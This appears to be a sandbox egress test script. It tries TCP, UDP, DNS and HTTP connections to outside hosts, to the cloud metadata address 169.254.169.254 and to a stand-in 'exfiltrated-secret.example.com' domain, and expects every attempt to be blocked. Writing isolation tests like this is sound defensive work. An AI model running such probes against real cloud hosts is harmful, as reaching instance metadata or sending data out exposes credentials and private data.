# Tries to send data out: TCP, UDP, DNS and HTTP, to the outside, to the cloud's metadata address and to its host.
# sim: connect tcp 93.184.216.34:443
# sim: connect tcp 169.254.169.254:80
# sim: connect udp 8.8.8.8:53
# sim: connect udp 169.254.169.254:53
# sim: connect dns exfiltrated-secret.example.com
# sim: connect http http://example.com/
# sim: connect http http://169.254.169.254/latest/meta-data/
# sim: connect http http://[fd00:ec2::254]/latest/meta-data/
# sim: connect tcp 127.0.0.1:1
# sim: result {"attempts": 9, "reached": []}
import os
import socket
import urllib.request

socket.setdefaulttimeout(2)
reached, attempts = [], 0


def attempt(name, action):
    global attempts
    attempts += 1
    try:
        action()
    except Exception as refused:
        print(f"blocked  {name}: {refused}")
    else:
        reached.append(name)
        print(f"REACHED  {name}")


def tcp(host, port):
    socket.create_connection((host, port)).close()


def udp(host, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect((host, port))
        # Nobody need answer: a datagram that left is out.
        s.send(b"secret")


attempt("tcp 93.184.216.34:443", lambda: tcp("93.184.216.34", 443))
attempt("tcp 169.254.169.254:80", lambda: tcp("169.254.169.254", 80))
attempt("udp 8.8.8.8:53", lambda: udp("8.8.8.8", 53))
attempt("udp 169.254.169.254:53", lambda: udp("169.254.169.254", 53))
attempt("dns exfiltrated-secret.example.com", lambda: socket.getaddrinfo("exfiltrated-secret.example.com", 80))
for url in ("http://example.com/", "http://169.254.169.254/latest/meta-data/", "http://[fd00:ec2::254]/latest/meta-data/"):
    attempt(f"http {url}", lambda: urllib.request.urlopen(url))
host = ("127.0.0.1", int(os.environ["HOST_PORT"]))
attempt("tcp a port of this host", lambda: tcp(*host))
enclave.result({"attempts": attempts, "reached": reached})
